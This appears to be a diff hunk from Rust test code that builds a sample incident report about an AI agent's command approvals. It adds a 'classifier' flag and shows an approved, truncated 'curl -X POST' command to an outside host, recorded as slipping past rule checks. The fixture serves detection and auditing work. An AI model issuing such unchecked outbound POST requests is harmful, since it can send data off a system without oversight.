@@ -255,6 +255,7 @@ pub fn with_runtime() -> IncidentReport {
         read: Some(s("Bash command: curl -X POST https://backb")),
         answer: Answer::Approved,
         prompt: 1,
+        classifier: false,
     });
     runtime.leaks = vec![Leak { kind: LeakKind::McpNeverConsulted, message: s("no MCP rule is consulted for a curl") }];
     let attempt = &mut report.destructive_attempts[0];
